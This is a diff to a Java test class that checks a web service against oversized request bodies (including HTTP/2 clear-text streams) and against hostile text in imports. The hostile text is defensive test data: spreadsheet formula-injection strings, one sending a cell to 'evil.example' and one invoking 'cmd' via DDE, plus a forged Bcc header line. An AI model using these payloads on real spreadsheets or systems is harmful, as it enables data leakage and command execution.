@@ -55,8 +55,9 @@ import org.junit.jupiter.api.TestFactory;
  * <ul>
  * <li>numbers whose scale explodes: every parameter of every operation, and every number in every
  * JSON body, with huge and tiny exponents (for pages, with Accept: text/html too);</li>
- * <li>bodies past their limit: every operation, declared by Content-Length and never sent; every
- * public POST, streamed in chunks;</li>
+ * <li>bodies past their limit: every operation (the pages the contract leaves out too), declared by
+ * Content-Length and never sent; every public POST, streamed in chunks; every body, over HTTP/2 in
+ * clear text, where it needs neither Content-Length nor Transfer-Encoding;</li>
  * <li>text from imports with formula starts, control characters and noncharacters, read back from
  * the CSV export, the Atom feed, the SVG chart, the page and the JSON; and stored text the XML
  * writers must not emit as it is;</li>
@@ -75,6 +76,9 @@ class HostileClassesTest {
     static final List<String> EXPONENTS = List.of("1e100000000", "-1e999999999", "1e-100000", "1E+2147483647");
 
     private static final ObjectMapper JSON = new ObjectMapper();
+
+    @jakarta.inject.Inject
+    io.vertx.core.Vertx vertx;
     private static final AtomicInteger UNIQUE = new AtomicInteger();
 
     // ---- numbers
@@ -148,12 +152,13 @@ class HostileClassesTest {
 
     @TestFactory
     Stream<DynamicTest> everyOperationRefusesABodyPastItsLimitBeforeReadingIt() throws IOException {
-        return ApiFuzzTest.operations().stream().map(op -> DynamicTest.dynamicTest(op.key(), () -> {
+        return everyOperation().map(op -> DynamicTest.dynamicTest(name(op), () -> {
             // the headers announce the body and not one byte of it is sent: the answer can only come before reading it
             RawAnswer answer = raw(op, "Content-Length: " + PAST_EVERY_LIMIT + "\r\n", null);
             assertThat(answer.status()).as("the answer to %s with a body of %d bytes announced: %s", op.key(), PAST_EVERY_LIMIT, answer.head())
                     .isEqualTo(413);
             assertThat(answer.head().toLowerCase(Locale.ROOT)).contains("content-type: application/problem+json").contains("connection: close");
+            ApiFuzzTest.assertSecurityHeaders("the 413 to " + name(op), answer::header);
             long maxBytes = JSON.readTree(answer.body()).path("maxBytes").asLong();
             assertThat(maxBytes).as("the limit the 413 names").isPositive().isLessThan(PAST_EVERY_LIMIT);
         }));
@@ -161,22 +166,63 @@ class HostileClassesTest {
 
     @TestFactory
     Stream<DynamicTest> everyPublicPostCutsAStreamedBodyAtItsLimit() throws IOException {
-        return ApiFuzzTest.operations().stream().filter(op -> !op.admin() && op.method().equals("post") && !op.bodyTypes().isEmpty())
-                .map(op -> DynamicTest.dynamicTest(op.key(), () -> {
-                    String type = op.bodyTypes().get(0);
-                    // a body that stays valid as far as it goes: an endless JSON string, an endless form value
-                    String start = type.contains("json") ? "{\"email\": \"" : "token=";
-                    RawAnswer answer = raw(op, "Transfer-Encoding: chunked\r\n", start);
-                    assertThat(answer.status()).as("the answer to %s streaming 1 MiB: %s", op.key(), answer.head()).isEqualTo(413);
-                    assertThat(answer.head().toLowerCase(Locale.ROOT)).contains("content-type: application/problem+json");
+        return everyOperation().filter(op -> !op.admin() && op.method().equals("post") && !op.bodyTypes().isEmpty())
+                .map(op -> DynamicTest.dynamicTest(name(op), () -> {
+                    RawAnswer answer = raw(op, "Transfer-Encoding: chunked\r\n", streamedStart(op));
+                    assertCutAtItsLimit(op, answer, "streaming 1 MiB in chunks", limit(op));
                 }));
+    }
+
+    @TestFactory
+    Stream<DynamicTest> everyBodySentOverHttp2IsCutAtItsLimit() throws IOException {
+        return everyOperation().filter(op -> !op.bodyTypes().isEmpty()).map(op -> DynamicTest.dynamicTest(name(op), () -> {
+            // a body past the limit in DATA frames, which need no length or chunking
+            long maxBytes = limit(op);
+            RawAnswer answer = http2(op, streamedStart(op), maxBytes + 64 * 1024);
+            assertCutAtItsLimit(op, answer, "streaming " + (maxBytes + 64 * 1024) + " bytes over HTTP/2", maxBytes);
+        }));
+    }
+
+    /** The operation's body limit, as the 413 to a body announced past every limit names it. */
+    private static long limit(Operation op) throws IOException {
+        return JSON.readTree(raw(op, "Content-Length: " + PAST_EVERY_LIMIT + "\r\n", null).body()).path("maxBytes").asLong();
+    }
+
+    /** A body that stays valid as far as it goes: an endless JSON string, an endless form value. */
+    private static String streamedStart(Operation op) {
+        return op.bodyTypes().get(0).contains("json") ? "{\"email\": \"" : "token=";
+    }
+
+    /** A 413 problem naming the limit, or for a page the 413 page saying it. */
+    private static void assertCutAtItsLimit(Operation op, RawAnswer answer, String how, long maxBytes) {
+        assertThat(answer.status()).as("the answer to %s %s (limit %d): %s", name(op), how, maxBytes, answer.head()).isEqualTo(413);
+        ApiFuzzTest.assertSecurityHeaders("the 413 to " + name(op) + " " + how, answer::header);
+        String head = answer.head().toLowerCase(Locale.ROOT);
+        String body = new String(answer.body(), StandardCharsets.UTF_8);
+        if ("text/html".equals(op.accept())) {
+            assertThat(head).as("the 413 page to %s", name(op)).contains("content-type: text/html");
+            assertThat(body).as("the 413 page to %s names the limit", name(op)).contains(" " + maxBytes + " bytes");
+        } else {
+            assertThat(head).as("the 413 to %s", name(op)).contains("content-type: application/problem+json");
+            assertThat(body).as("the 413 to %s names the limit", name(op)).contains("\"maxBytes\":" + maxBytes);
+        }
     }
 
     // ---- text
 
-    /** What text from outside may hold that the writers must not pass on as it is. */
-    static final List<String> INJECTED = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")\r\nBcc: victim@evil.example\t@x",
-            "+cmd|' /C calc'!A0\u0001\u000b\ufffe\ufdd0", "@SUM(1+1)\u007f\u0085");
+    /**
+     * Text from outside that a JSON body takes (tab, CR and LF are allowed in it) and the writers
+     * must not pass on as it is: formula starts, a forged header line. An import of it is read back
+     * from every output, or refused for what the member must be (a slug, a URL, a token, a date).
+     */
+    static final List<String> READ_BACK = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")\r\nBcc: victim@evil.example\t@x",
+            "+cmd|' /C calc'!A0", "@SUM(1+1)");
+
+    /** Text a JSON body refuses in any member (a 400 pointing at it): control characters but tab, CR and LF, and noncharacters. */
+    static final List<String> REFUSED = List.of("Seller\u0001\u000b", "@SUM(1+1)\u007f\u0085", "+cmd\ufffe\ufdd0");
+
+    /** The members whose text reaches the CSV export (seller, availability) and the feed's and the chart's titles (model). */
+    static final List<String> WRITTEN_OUT = List.of("/drives/0/model", "/listings/0/sellerName", "/listings/0/observations/0/availability");
 
     @TestFactory
     Stream<DynamicTest> everyTextFieldThatReachesCsvXmlAndHtmlIsNeutralised() throws IOException {
@@ -184,44 +230,60 @@ class HostileClassesTest {
         JsonNode base = JSON.readTree(importDocument("text-0"));
         List<String> texts = new ArrayList<>();
         textMembers(schemas, schemas.path("ImportDocument"), base, "", texts);
-        assertThat(texts).as("text members of an import").contains("/drives/0/model", "/listings/0/sellerName",
-                "/listings/0/observations/0/availability");
+        assertThat(texts).as("text members of an import").containsAll(WRITTEN_OUT);
         return texts.stream().map(pointer -> DynamicTest.dynamicTest(pointer, () -> {
-            for (String text : INJECTED) {
+            int readBack = 0;
+            for (String text : READ_BACK) {
                 String key = "text-" + UNIQUE.incrementAndGet();
-                JsonNode doc = with(JSON.readTree(importDocument(key)), pointer, JsonNodeFactory.instance.textNode(text));
-                Response imported = admin().contentType("application/json").body(JSON.writeValueAsBytes(doc))
-                        .when().post("/admin/imports/specs").andReturn();
+                Response imported = importWith(key, pointer, text);
                 String what = "an import with " + Text.quote(text) + " at " + pointer;
-                ApiFuzzTest.checkAnswer(what, 0, imported);
                 if (imported.statusCode() != 200) {
-                    // refused (a control character, a noncharacter, a malformed token): said where
+                    // refused for what the member must be (a slug, a URL, a token, a date): said where
                     assertThat(imported.statusCode()).as("the answer to %s: %s", what, imported.asString()).isEqualTo(400);
                     assertThat(imported.asString()).as("the refusal of %s points at the member", what).contains(pointer);
                     continue;
                 }
                 readBackClean(slug(key), what);
+                readBack++;
+            }
+            if (WRITTEN_OUT.contains(pointer)) {
+                assertThat(readBack).as("imports read back with each of %s at %s", READ_BACK, pointer).isEqualTo(READ_BACK.size());
+            }
+            for (String text : REFUSED) {
+                Response imported = importWith("text-" + UNIQUE.incrementAndGet(), pointer, text);
+                String what = "an import with " + Text.quote(text) + " at " + pointer;
+                assertThat(imported.statusCode()).as("the answer to %s: %s", what, imported.asString()).isEqualTo(400);
+                assertThat(imported.asString()).as("the refusal of %s points at the member", what).contains(pointer);
             }
         }));
+    }
+
+    /** The import of one drive and its listing with the text at the pointer, answered as every generic test's answer is held. */
+    private static Response importWith(String key, String pointer, String text) throws Exception {
+        JsonNode doc = with(JSON.readTree(importDocument(key)), pointer, JsonNodeFactory.instance.textNode(text));
+        Response imported = admin().contentType("application/json").body(JSON.writeValueAsBytes(doc)).when().post("/admin/imports/specs").andReturn();
+        ApiFuzzTest.checkAnswer("an import with " + Text.quote(text) + " at " + pointer, 0, imported);
+        return imported;
     }
 
     /** Every output of a drive read back: nothing a spreadsheet runs, nothing XML forbids, no control characters, names one line. */
     private static void readBackClean(String slug, String what) throws Exception {
         Response csv = given().accept("text/csv").when().get("/drives/" + slug + "/prices").andReturn();
         ApiFuzzTest.checkAnswer("the CSV after " + what, 0, csv);
-        if (csv.statusCode() == 200) {
-            try (var rows = new CsvMapper().readerFor(String[].class).with(CsvParser.Feature.WRAP_AS_ARRAY).<String[]>readValues(csv.asByteArray())) {
-                while (rows.hasNext()) {
-                    for (String cell : rows.next()) {
-                        assertThat(Text.csvCell(cell)).as("a CSV cell after %s", what).isEqualTo(cell);
-                        assertThat(Text.singleLine(cell)).as("a CSV cell after %s", what).isEqualTo(cell.strip());
-                    }
+        assertThat(csv.statusCode()).as("the CSV after %s: %s", what, csv.asString()).isEqualTo(200);
+        int rowsRead = 0;
+        try (var rows = new CsvMapper().readerFor(String[].class).with(CsvParser.Feature.WRAP_AS_ARRAY).<String[]>readValues(csv.asByteArray())) {
+            for (; rows.hasNext(); rowsRead++) {
+                for (String cell : rows.next()) {
+                    assertThat(Text.csvCell(cell)).as("a CSV cell after %s", what).isEqualTo(cell);
+                    assertThat(Text.singleLine(cell)).as("a CSV cell after %s", what).isEqualTo(cell.strip());
                 }
             }
         }
+        assertThat(rowsRead).as("the CSV's header and two observations after %s", what).isEqualTo(3);
         assertXml(given().accept("application/atom+xml").when().get("/price-changes?week=2026-W47&drive=" + slug).andReturn(),
-                "the Atom feed after " + what);
-        assertXml(given().when().get("/drives/" + slug + "/prices.svg").andReturn(), "the chart after " + what);
+                "the Atom feed after " + what, "entry");
+        assertXml(given().when().get("/drives/" + slug + "/prices.svg").andReturn(), "the chart after " + what, "svg");
         Response page = given().accept("text/html").when().get("/drives/" + slug).andReturn();
         ApiFuzzTest.checkAnswer("the page after " + what, 0, page);
         assertThat(Text.firstRemoved(page.asString())).as("the first control character or noncharacter in the page after %s", what).isEqualTo(-1);
@@ -241,8 +303,9 @@ class HostileClassesTest {
         sql("UPDATE drive SET model = ? WHERE slug = ?", "Dirty\u0001\u000b\ufffe\r\nBcc: victim@evil.example", slug(key));
         sql("UPDATE listing SET seller_name = ? WHERE external_id = ?", "=HYPERLINK(\"x\")\u0000\u0008", externalId(key));
         assertXml(given().accept("application/atom+xml").when().get("/price-changes?week=2026-W47&drive=" + slug(key)).andReturn(),
-                "the Atom feed of a drive stored with control characters");
-        assertXml(given().when().get("/drives/" + slug(key) + "/prices.svg").andReturn(), "the chart of a drive stored with control characters");
+                "the Atom feed of a drive stored with control characters", "entry");
+        assertXml(given().when().get("/drives/" + slug(key) + "/prices.svg").andReturn(), "the chart of a drive stored with control characters",
+                "svg");
     }
 
     // ---- headers
@@ -257,14 +320,8 @@ class HostileClassesTest {
                 Attempt attempt = attempt(op, baseline, null, null, "valid");
                 Response response = ApiFuzzTest.send(op, attempt, accept);
                 String what = op.key() + " as " + accept;
+                // the security headers, as on every answer checkAnswer sees (every generic test's: POSTs, 4xx and 413s too)
                 ApiFuzzTest.checkAnswer(what, 0, response);
-                assertThat(response.header("X-Content-Type-Options")).as("nosniff on %s", what).isEqualTo("nosniff");
-                assertThat(response.header("Referrer-Policy")).as("Referrer-Policy on %s", what).isEqualTo("no-referrer");
-                String policy = response.header("Content-Security-Policy");
-                assertThat(policy).as("the policy of %s", what).startsWith("default-src 'none'");
-                if (response.contentType() != null && response.contentType().startsWith("text/html")) {
-                    assertThat(policy).as("the policy of the page %s", what).contains("frame-ancestors 'none'").doesNotContain("script-src");
-                }
                 if (op.responseTypes(200).size() > 1) {
                     assertThat(response.header("Vary")).as("Vary on %s, which answers %s", what, op.responseTypes(200)).contains("Accept");
                 }
@@ -284,6 +341,11 @@ class HostileClassesTest {
             given().when().get("/admin/made-up-" + i).then().statusCode(401);
             given().when().get("/made-up-" + i).then().statusCode(404);
         }
+        // drives no one has: the routes match, with a slug of their own each time
+        for (int i = 0; i < 150; i++) {
+            given().when().get("/drives/fake-ssd-" + i + "/prices.svg").then().statusCode(404);
+            given().accept(i % 2 == 0 ? "application/json" : "text/html").when().get("/drives/fake-ssd-" + i).then().statusCode(404);
+        }
         given().when().get("/offers").then().statusCode(200);
         Set<String> templates = new java.util.HashSet<>(FIXED_URI_TAGS);
         ApiFuzzTest.operations().forEach(op -> templates.add(op.path()));
@@ -293,12 +355,23 @@ class HostileClassesTest {
         while (m.find()) {
             tags.add(m.group(1));
         }
-        assertThat(tags).as("uri tags after made-up paths").contains("/offers").allSatisfy(tag ->
-                assertThat(templates.contains(tag) || !tag.startsWith("/admin") && !tag.contains("made-up")).as(tag).isTrue());
-        assertThat(tags).as("uri tags").noneMatch(tag -> tag.contains("made-up"));
+        // every tag a template of the contract (the pages share its addresses), a fixed one, or Quarkus's own endpoints'
+        assertThat(tags).as("uri tags after made-up paths and drives no one has").contains("/offers", "/drives/{slug}", "/drives/{slug}/prices.svg")
+                .allSatisfy(tag -> assertThat(templates.contains(tag) || tag.startsWith("/q/")).as("%s is a template of %s", tag, templates).isTrue())
+                .noneMatch(tag -> tag.contains("made-up") || tag.contains("fake-ssd"));
     }
 
     // ---- helpers
+
+    /** The contract's operations and those it leaves out (the pages for people, asked for text/html). */
+    static Stream<Operation> everyOperation() throws IOException {
+        return Stream.concat(ApiFuzzTest.operations().stream(), ApiFuzzTest.hiddenOperations().stream());
+    }
+
+    /** The operation's name in a test's name: its method and path, and what it is asked for when that is not any type. */
+    static String name(Operation op) {
+        return op.key() + (op.accept() == null ? "" : " as " + op.accept());
+    }
 
     /**
      * The values of the operation's path and required parameters to start from: the contract's
@@ -309,7 +382,7 @@ class HostileClassesTest {
         Map<String, String> examples = new LinkedHashMap<>();
         for (JsonNode parameter : op.parameters()) {
             if ("path".equals(parameter.path("in").asText()) || parameter.path("required").asBoolean()) {
-                examples.put(parameter.path("name").asText(), parameter.has("example") ? parameter.get("example").asText() : "1");
+                examples.put(parameter.path("name").asText(), ApiFuzzTest.example(parameter));
             }
         }
         List<Map<String, String>> baselines = new ArrayList<>(List.of(examples));
@@ -473,14 +546,15 @@ class HostileClassesTest {
                 """.formatted(slug(key), key, externalId(key));
     }
 
-    private static void assertXml(Response response, String what) throws Exception {
+    /** A 200 whose body parses as XML, holds at least one {@code element} (the feed's entry, the chart's svg) and nothing XML forbids. */
+    private static void assertXml(Response response, String what, String element) throws Exception {
         ApiFuzzTest.checkAnswer(what, 0, response);
-        if (response.statusCode() != 200) {
-            return;
-        }
+        assertThat(response.statusCode()).as("%s: %s", what, response.asString()).isEqualTo(200);
         DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
+        factory.setNamespaceAware(true);
         factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
-        factory.newDocumentBuilder().parse(new ByteArrayInputStream(response.asByteArray())); // throws on what XML 1.0 forbids
+        org.w3c.dom.Document document = factory.newDocumentBuilder().parse(new ByteArrayInputStream(response.asByteArray())); // throws on what XML 1.0 forbids
+        assertThat(document.getElementsByTagNameNS("*", element).getLength()).as("%s elements in %s", element, what).isPositive();
         assertThat(Text.firstNotXml(response.asString())).as("the first character XML forbids in %s", what).isEqualTo(-1);
     }
 
@@ -496,6 +570,16 @@ class HostileClassesTest {
 
     /** A status line, headers and body, read off a socket. */
     record RawAnswer(int status, String head, byte[] body) {
+        /** The value of the header (its name in any case); null when it is not there. */
+        String header(String name) {
+            for (String line : head.split("\r\n")) {
+                int colon = line.indexOf(':');
+                if (colon > 0 && line.substring(0, colon).trim().equalsIgnoreCase(name)) {
+                    return line.substring(colon + 1).trim();
+                }
+            }
+            return null;
+        }
     }
 
     /**
@@ -505,18 +589,11 @@ class HostileClassesTest {
      */
     private static RawAnswer raw(Operation op, String framing, String streamed) throws IOException {
         Attempt attempt = attempt(op, baselines(op).get(0), null, null, "body past its limit");
-        StringBuilder target = new StringBuilder(op.path());
-        for (Map.Entry<String, String> p : attempt.path().entrySet()) {
-            target.replace(0, target.length(), target.toString().replace("{" + p.getKey() + "}", ApiFuzzTest.percentEncoded(p.getValue())));
-        }
-        List<String> pairs = new ArrayList<>();
-        attempt.query().forEach((n, v) -> pairs.add(ApiFuzzTest.percentEncoded(n) + "=" + ApiFuzzTest.percentEncoded(v)));
-        if (!pairs.isEmpty()) {
-            target.append('?').append(String.join("&", pairs));
-        }
+        String target = ApiFuzzTest.target(op, attempt);
         String type = op.bodyTypes().isEmpty() ? "application/octet-stream" : op.bodyTypes().get(0);
         String head = op.method().toUpperCase(Locale.ROOT) + " " + target + " HTTP/1.1\r\nHost: localhost\r\nContent-Type: " + type + "\r\n"
-                + (op.admin() ? "Authorization: Bearer " + TOKEN + "\r\n" : "") + framing + "\r\n";
+                + (op.admin() ? "Authorization: Bearer " + TOKEN + "\r\n" : "") + (op.accept() == null ? "" : "Accept: " + op.accept() + "\r\n")
+                + framing + "\r\n";
         try (Socket socket = new Socket("localhost", RestAssured.port)) {
             socket.setSoTimeout(ApiFuzzTest.ANSWER_TIMEOUT_MILLIS);
             OutputStream out = socket.getOutputStream();
@@ -537,6 +614,58 @@ class HostileClassesTest {
                 }
             }
             return read(in);
+        }
+    }
+
+    /**
+     * Sends the operation's request over HTTP/2 on the plain port, by prior knowledge (h2c, as
+     * {@code curl --http2-prior-knowledge} does): {@code start} and then letters up to {@code bytes},
+     * in DATA frames, with neither Content-Length nor Transfer-Encoding.
+     */
+    private RawAnswer http2(Operation op, String start, long bytes) throws Exception {
+        Attempt attempt = attempt(op, baselines(op).get(0), null, null, "body past its limit over HTTP/2");
+        io.vertx.core.http.HttpClient client = vertx.createHttpClient(new io.vertx.core.http.HttpClientOptions()
+                .setProtocolVersion(io.vertx.core.http.HttpVersion.HTTP_2).setHttp2ClearTextUpgrade(false));
+        try {
+            io.vertx.core.http.RequestOptions options = new io.vertx.core.http.RequestOptions()
+                    .setMethod(io.vertx.core.http.HttpMethod.valueOf(op.method().toUpperCase(Locale.ROOT)))
+                    .setHost("localhost").setPort(RestAssured.port).setURI(ApiFuzzTest.target(op, attempt))
+                    .putHeader("Content-Type", op.bodyTypes().get(0));
+            if (op.admin()) {
+                options.putHeader("Authorization", "Bearer " + TOKEN);
+            }
+            if (op.accept() != null) {
+                options.putHeader("Accept", op.accept());
+            }
+            java.util.concurrent.CompletableFuture<RawAnswer> answer = new java.util.concurrent.CompletableFuture<>();
+            client.request(options).onFailure(answer::completeExceptionally).onSuccess(request -> {
+                request.response().compose(response -> response.body().map(body -> {
+                    StringBuilder head = new StringBuilder("HTTP/2 " + response.statusCode());
+                    response.headers().forEach(h -> head.append("\r\n").append(h.getKey()).append(": ").append(h.getValue()));
+                    return new RawAnswer(response.statusCode(), head.toString(), body.getBytes());
+                })).onComplete(done -> {
+                    if (done.succeeded()) {
+                        answer.complete(done.result());
+                    } else {
+                        answer.completeExceptionally(done.cause());
+                    }
+                });
+                try {
+                    // Vert.x asks for a length or chunking before writing; over HTTP/2 the flag sends no header, the body is DATA frames
+                    request.setChunked(true);
+                    request.write(start);
+                    io.vertx.core.buffer.Buffer letters = io.vertx.core.buffer.Buffer.buffer("a".repeat(8192));
+                    for (long sent = start.length(); sent < bytes; sent += letters.length()) {
+                        request.write(letters);
+                    }
+                    request.end();
+                } catch (RuntimeException e) {
+                    answer.completeExceptionally(e);
+                }
+            });
+            return answer.get(ApiFuzzTest.ANSWER_TIMEOUT_MILLIS, java.util.concurrent.TimeUnit.MILLISECONDS);
+        } finally {
+            client.close();
         }
     }
 
